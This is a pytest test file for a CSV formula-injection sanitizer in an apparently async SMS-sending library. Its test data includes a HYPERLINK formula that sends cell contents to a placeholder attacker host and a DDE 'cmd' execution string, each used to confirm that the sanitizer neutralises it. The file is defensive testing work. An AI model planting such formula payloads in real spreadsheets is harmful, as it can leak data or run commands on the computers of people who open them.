"""clicksend_async._csvsafe: report cells a spreadsheet will not run as formulas (OWASP)."""

from __future__ import annotations

import csv
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from fakeclock import Clock

from clicksend_async._csvsafe import FORMULA_TRIGGERS, csv_safe, csv_safe_row
from clicksend_async.bulk import SMS, BulkJob
from clicksend_async.testing import ClickSendEmulator


class TestCsvSafe:
    @pytest.mark.parametrize(
        "cell",
        [
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            "=1+1",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1",
            "\r=1",
            "+61 411 111 111",  # not only a number: a spreadsheet may read it as a formula
            "-",
            "+",
        ],
    )
    def test_a_formula_leading_cell_gets_a_quote(self, cell: str) -> None:
        assert csv_safe(cell) == "'" + cell

    @pytest.mark.parametrize("cell", ["+61411111111", "-0.5", "+1", "-12"])
    def test_a_signed_number_alone_is_left_as_it_is(self, cell: str) -> None:
        assert csv_safe(cell) == cell

    @pytest.mark.parametrize(
        "value", ["", "hello", "61411111111", " =1", "'=1", 7, Decimal("0.0792"), None]
    )
    def test_anything_else_is_unchanged(self, value: Any) -> None:
        assert csv_safe(value) == value

    def test_the_triggers_are_owasps(self) -> None:
        assert frozenset("=+-@\t\r") == FORMULA_TRIGGERS

    def test_a_row_has_none_as_empty_cells(self) -> None:
        assert csv_safe_row([1, None, "=x", "+61411111111"]) == [1, "", "'=x", "+61411111111"]

    @pytest.mark.parametrize(
        "cell",
        [
            "+61411111111",
            "+",
            "+61 411",
            "+\uff16\uff11",  # full-width digits: not ASCII, not only a number
            "+\u0661\u0662",  # Arabic-Indic digits
            "+1.5",
            "-12",
            "+1+cmd|' /C calc'!A0",
        ],
    )
    def test_a_row_agrees_with_the_cell_rule(self, cell: str) -> None:
        # The row's shortcut for E.164 numbers gives what csv_safe gives.
        assert csv_safe_row([cell]) == [csv_safe(cell)]


class TestReportCsv:
    async def test_a_formula_in_a_recipient_cell_is_written_as_text(self, tmp_path: Path) -> None:
        clock = Clock()
        recipients = [
            {"to": "+61411111111", "name": "Ann"},
            {"to": '=HYPERLINK("http://evil.example","x")', "name": "Eve"},
        ]
        async with ClickSendEmulator(clock=clock) as emu, emu.client(rate_limit=None) as cs:
            job = BulkJob(
                cs.session,
                SMS,
                recipients,
                body="Hi {name}",
                reconcile_settle=0,
                sleep=clock.sleep,
                clock=clock,
            )
            with await job.run() as report:
                target = report.to_csv(tmp_path / "report.csv")
        with target.open(newline="", encoding="utf-8") as handle:
            lines = list(csv.DictReader(handle))
        assert lines[0]["to"] == "+61411111111"  # a number stays a number
        assert lines[1]["to"] == '\'=HYPERLINK("http://evil.example","x")'
        assert lines[1]["state"] == "invalid"
        # Every cell written is one csv_safe leaves alone: none can run as a formula.
        assert all(csv_safe(cell) == cell for line in lines for cell in line.values())
